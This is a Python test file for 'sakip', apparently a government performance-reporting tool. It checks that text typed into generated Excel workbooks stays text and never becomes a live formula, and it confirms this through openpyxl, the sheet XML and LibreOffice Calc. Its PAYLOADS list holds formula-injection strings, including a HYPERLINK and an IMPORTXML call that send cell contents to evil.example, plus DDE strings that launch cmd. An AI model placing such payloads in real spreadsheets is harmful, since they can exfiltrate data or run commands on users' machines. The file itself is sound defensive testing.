"""Every workbook sakip writes stores what units typed as text, never as a live formula: the
validated-data workbook attached to a package, the correction workbooks, the forms (issue 20,
class 9). Checked three ways: openpyxl reads a string cell with the exact text, the sheet's XML
holds no formula element, and LibreOffice Calc shows the text and computes nothing."""

from __future__ import annotations

import os
import shutil
import subprocess
import zipfile
from pathlib import Path

import openpyxl
import pytest

from sakip import xlsx
from sakip.capaian import rules as capaian
from sakip.pdf import datasheet
from sakip.documents import forms
from sakip.ingest import workbooks as ingest
from sakip.paraf import koreksi
from sakip.errors import Location
from sakip.model import Finding
from sakip.paraf.suites import ParafResult

from tests.conftest import INPUTS

# The five, and others a spreadsheet reads as a formula, a DDE call or an error value.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?d="&B1,"Lihat kendala")',
    "=1+1",
    "+cmd|'/C calc'!A0",
    "@SUM(A1)",
    "-2+3",
    '=DDE("cmd";"/C calc";"A1")',
    "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
    "==1",
    "=",
    "#N/A",
    "#REF!",
    "=1+1\n=2+2",
    "\uff1d1+1",  # a full-width equals sign
    "'=1+1",  # already quoted by the unit: the quote is part of the text
]
# Leading whitespace, which ingest may trim: checked where sakip writes what it is given.
SPACED = ["\t=1+1", "\r=1+1", " =1+1"]
EVALUATED = {"Lihat kendala", "#NAME?", "Err:508", "Err:509", "#VALUE!", "#N/A()"}


def formulas(path: Path) -> list[str]:
    """Every formula element in the workbook's sheets (<f>...</f>, with or without a prefix)."""
    found = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = z.read(name).decode()
                found += [part.split(">", 1)[-1].split("<", 1)[0] for part in xml.split("<f")[1:]
                          if part[:1] in (">", " ")]
    return found


def text_cells(path: Path) -> dict[str, list[str]]:
    """Every text value in the workbook -> the data types of the cells holding it."""
    found: dict[str, list[str]] = {}
    for ws in openpyxl.load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    found.setdefault(cell.value, []).append(cell.data_type)
    return found


def assert_texts(path: Path, expected: list[str]) -> None:
    cells = text_cells(path)
    for text in expected:
        assert cells.get(text), f"{text!r} not found in {path.name}"
        assert set(cells[text]) == {"s"}, (text, cells[text])
    assert not [f for f in formulas(path) if any(p[1:] in f for p in PAYLOADS if len(p) > 1)], formulas(path)


def quote_prefixed(path: Path, text: str) -> bool:
    return all(c.quotePrefix for ws in openpyxl.load_workbook(path).worksheets for row in ws.iter_rows()
               for c in row if c.value == text)


# --- the helper itself ----------------------------------------------------------------------------

@pytest.mark.parametrize("write_only", [False, True], ids=["normal", "write-only"])
def test_text_written_through_sakip_xlsx_stays_text(tmp_path, write_only):
    book = openpyxl.Workbook(write_only=write_only)
    ws = book.create_sheet("Data")
    for text in PAYLOADS + SPACED:
        xlsx.append(ws, [text, 7, None])
    book.save(tmp_path / "t.xlsx")
    assert formulas(tmp_path / "t.xlsx") == []
    assert_texts(tmp_path / "t.xlsx", PAYLOADS + SPACED)
    rows = list(openpyxl.load_workbook(tmp_path / "t.xlsx")["Data"].iter_rows(values_only=True))
    assert [r[0] for r in rows] == PAYLOADS + SPACED and {r[1] for r in rows} == {7}
    for text in PAYLOADS:  # what a reader who edits the cell (F2, Enter) keeps as text
        assert quote_prefixed(tmp_path / "t.xlsx", text) == text.startswith(xlsx.FORMULA_STARTS)


def test_a_real_formula_is_still_written_as_one_where_sakip_writes_it_itself(tmp_path):
    """The check above could not pass by accident: openpyxl's own assignment is a formula."""
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    book.save(tmp_path / "t.xlsx")
    assert formulas(tmp_path / "t.xlsx") == ["1+1"]


def test_what_a_worksheet_cannot_hold_is_shown_not_refused():
    assert xlsx.cell_text("a\x07b\x00c\ud800d\uffff") == "a<U+0007>b<U+0000>c<U+D800>d<U+FFFF>"
    assert xlsx.cell_text("baris 1\nbaris 2\tkolom\r") == "baris 1\nbaris 2\tkolom\r"
    long = xlsx.cell_text("=" + "A" * 40_000)
    assert len(long) == xlsx.MAX_CELL_TEXT and long.endswith("[dipotong]")


# --- the validated-data workbook attached to a package ------------------------------------------

@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The demo with PK-SEK's kendala, tindak lanjut and bukti dukung, its RA's actions and its
    programs' names typed as formulas (as text, the way Excel keeps a text typed after a quote)."""
    inputs = tmp_path_factory.mktemp("hostile") / "inputs"
    shutil.copytree(INPUTS, inputs)
    book = inputs / "2026/realisasi/tw2/PK-SEK.xlsx"
    wb = openpyxl.load_workbook(book)
    ws = wb["Realisasi"]
    payloads = iter(PAYLOADS * 3)
    for row in range(5, ws.max_row + 1):
        for col in (10, 11, 12):
            xlsx.put(ws, row, col, next(payloads))
    wb.save(book)
    pk = inputs / "2026/pk/PK-SEK.xlsx"
    wb = openpyxl.load_workbook(pk)
    for row in range(5, wb["RA"].max_row + 1):
        xlsx.put(wb["RA"], row, 8, PAYLOADS[row % len(PAYLOADS)])
    for row in range(5, wb["Anggaran"].max_row + 1):
        xlsx.put(wb["Anggaran"], row, 3, PAYLOADS[(row + 3) % len(PAYLOADS)])
    wb.save(pk)
    period = ingest.read_period(inputs, 2026, 2)
    return inputs, period, capaian.compute(period)


def read_texts(period, pk: str) -> list[str]:
    """What ingest read from the unit's cells that went into the validated data."""
    texts = []
    for frame, columns in ((period.realisasi, ("kendala", "tindak_lanjut", "bukti_dukung")),
                           (period.indicators, ("rencana_aksi",)), (period.budgets, ("program",))):
        rows = frame[frame["pk"] == pk]
        texts += [v for c in columns for v in rows[c] if isinstance(v, str) and v]
    return texts


def test_the_validated_data_workbook_keeps_formulas_typed_as_text_as_text(hostile, tmp_path):
    _inputs, period, results = hostile
    read = read_texts(period, "PK-SEK")
    assert {p for p in PAYLOADS if "\n" not in p} <= set(read), "the payloads reached the data"
    path = tmp_path / "data.xlsx"
    path.write_bytes(datasheet.workbook(period, "PK-SEK", results["PK-SEK"]))
    assert formulas(path) == []
    assert_texts(path, read)
    assert_texts(path, PAYLOADS[:5])  # the examples, exactly as typed


def calc_csv(path: Path, tmp_path: Path) -> dict[str, str]:
    """Every sheet of `path` as LibreOffice Calc computes and exports it (CSV text by sheet)."""
    soffice = shutil.which("soffice")
    if soffice is None:
        pytest.skip("LibreOffice not installed")
    out = tmp_path / "csv"
    out.mkdir()
    every_sheet = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    done = subprocess.run([soffice, f"-env:UserInstallation={(tmp_path / 'profil').as_uri()}", "--headless",
                           "--convert-to", every_sheet, "--outdir", str(out), str(path)],
                          capture_output=True, text=True, timeout=180, env={**os.environ, "HOME": str(tmp_path)})
    sheets = {p.stem.removeprefix(path.stem + "-"): p.read_text() for p in out.glob("*.csv")}
    if not sheets and "could not be loaded" in done.stderr:
        pytest.skip("LibreOffice Calc is not installed (only Writer): apt install libreoffice-calc-nogui")
    assert sheets, done.stderr
    return sheets


def test_libreoffice_calc_shows_the_text_and_computes_nothing(hostile, tmp_path):
    _inputs, period, results = hostile
    path = tmp_path / "data.xlsx"
    path.write_bytes(datasheet.workbook(period, "PK-SEK", results["PK-SEK"]))
    sheets = calc_csv(path, tmp_path)
    import csv
    import io

    values = {v for text in sheets.values() for row in csv.reader(io.StringIO(text)) for v in row}
    for payload in PAYLOADS[:5]:
        assert payload in values, (payload, sorted(values)[:20])
    # Column by column, the Realisasi sheet shows what ingest read, not what a formula computes
    # ('=1+1' would show 2, the HYPERLINK its label, DDE an error).
    rows = list(csv.DictReader(io.StringIO(sheets["Realisasi"])))
    read = set(read_texts(period, "PK-SEK"))
    shown = [row[c] for row in rows for c in ("kendala", "tindak_lanjut", "bukti_dukung") if row[c]]
    assert shown and all(v in read for v in shown), [v for v in shown if v not in read]
    assert not (EVALUATED & values)
    # A control formula proves this LibreOffice computes formulas.
    control = tmp_path / "kontrol.xlsx"
    book = openpyxl.Workbook()
    book.active["A1"] = "=1+1"
    book.save(control)
    (tmp_path / "k").mkdir()
    assert [v.strip() for v in calc_csv(control, tmp_path / "k").values()] == ["2"]


# --- correction workbooks -----------------------------------------------------------------------------

def findings_with_payloads(file: str, sheet: str) -> list[Finding]:
    return [Finding("PK-SEK", "error", Location(file, sheet, f"J{5 + n % 5}"), text, f"Kendala tertulis {text}",
                    f"Ganti {text}", "paraf.x", text) for n, text in enumerate(PAYLOADS + SPACED)]


def test_a_correction_workbook_of_its_own_keeps_them_as_text(tmp_path):
    result = ParafResult("PK-SEK", "DIKEMBALIKAN", findings_with_payloads("instansi.toml", ""))
    [book] = koreksi.write_corrections(result, {}, tmp_path)
    assert formulas(book) == []
    assert_texts(book, PAYLOADS + SPACED + [f"Ganti {p}" for p in PAYLOADS])


def test_a_marked_copy_keeps_them_as_text(hostile, tmp_path):
    inputs, _period, _results = hostile
    name = "realisasi/tw2/PK-SEK.xlsx"
    source = inputs / "2026" / name
    result = ParafResult("PK-SEK", "DIKEMBALIKAN", findings_with_payloads(name, "Realisasi"))
    [book] = koreksi.write_corrections(result, {name: source}, tmp_path)
    assert formulas(book) == []
    assert_texts(book, PAYLOADS + SPACED)
    marked = openpyxl.load_workbook(book)["Realisasi"]
    assert marked["J5"].value == PAYLOADS[0] and marked["J5"].data_type == "s"
    assert marked["J5"].fill.fgColor.rgb.endswith("FFC7CE")


def test_a_csv_submission_comes_back_with_its_text_as_text(hostile, tmp_path):
    """A CSV file holds only text: '=1+1' in it is what the unit typed, and the workbook made
    from it for the corrections must not turn it into a formula."""
    from tests.ingest.test_ingest_corpus import write_csv_folder

    inputs, _period, _results = hostile
    folder = tmp_path / "PK-SEK"
    write_csv_folder(inputs / "2026/realisasi/tw2/PK-SEK.xlsx", folder, ";", "utf-8", decimal_comma=True)
    name = "realisasi/tw2/PK-SEK"
    result = ParafResult("PK-SEK", "DIKEMBALIKAN", findings_with_payloads(f"{name}/Realisasi.csv", "Realisasi"))
    [book] = koreksi.write_corrections(result, {name: folder}, tmp_path / "out")
    assert formulas(book) == []
    assert_texts(book, [p for p in PAYLOADS if "\n" not in p])
    assert quote_prefixed(book, PAYLOADS[0])


# --- forms --------------------------------------------------------------------------------------------

SIGNER = forms.Signer("197808232003122005", "=HYPERLINK(\"http://evil.example\",\"NAMA\")", "@SUM(A1)", "-2+3")


def test_a_form_prefilled_with_formulas_keeps_them_as_text(tmp_path):
    items = [forms.FormIndicator(f"IK-{n:02}", text, "%", "jumlah", 10, 20, [text]) for n, text in enumerate(PAYLOADS)]
    programs = [forms.FormProgram(f"P{n}", text, 1000, 10) for n, text in enumerate(PAYLOADS)]
    path = forms.write_realisasi_form(tmp_path / "f.xlsx", "=1+1", 2026, 2, SIGNER, items, programs)
    assert formulas(path) == []
    assert_texts(path, PAYLOADS + [SIGNER.nama, SIGNER.nip])


def test_generated_forms_keep_what_units_typed_as_text(hostile, tmp_path):
    inputs, period, _results = hostile
    paths = {p.stem: p for p in forms.generate_forms(inputs, tmp_path, 2026, 3)}
    sek = paths["PK-SEK"]
    assert formulas(sek) == []
    programs = [v for v in period.budgets[period.budgets["pk"] == "PK-SEK"]["program"]]
    assert_texts(sek, [p for p in programs if isinstance(p, str)])


def test_workbooks_the_demo_writes_and_fills_keep_them_as_text(tmp_path):
    indicators = [forms.Indicator("IK-01", text, text, "%", "Positif", "Jumlah", 100, [25, 50, 75, 100], text)
                  for text in PAYLOADS[:3]]
    programs = [forms.Program("P1", PAYLOADS[3], 1000)]
    pk = forms.write_pk_workbook(tmp_path / "pk.xlsx", "PK-X", 2026, SIGNER, indicators, programs)
    assert formulas(pk) == []
    assert_texts(pk, PAYLOADS[:4])
    real = {"IK-01": forms.Realisasi(PAYLOADS[4], PAYLOADS[0], PAYLOADS[1], PAYLOADS[2])}
    book = forms.write_realisasi_workbook(tmp_path / "r.xlsx", "PK-X", 2026, 2, SIGNER, indicators[:1], real,
                                          programs, [PAYLOADS[5]])
    assert formulas(book) == []
    assert_texts(book, PAYLOADS[:6])
    form = forms.write_realisasi_form(tmp_path / "f.xlsx", "PK-X", 2026, 2, SIGNER,
                                      [forms.FormIndicator("IK-01", "Indikator", "%", "jumlah", 10, 20, [1])],
                                      [forms.FormProgram("P1", "Program", 1000, 10)])
    filled = forms.fill_realisasi_form(form, tmp_path / "isi.xlsx", real, [PAYLOADS[1]])
    assert formulas(filled) == []
    assert_texts(filled, PAYLOADS[:3] + [PAYLOADS[4]])
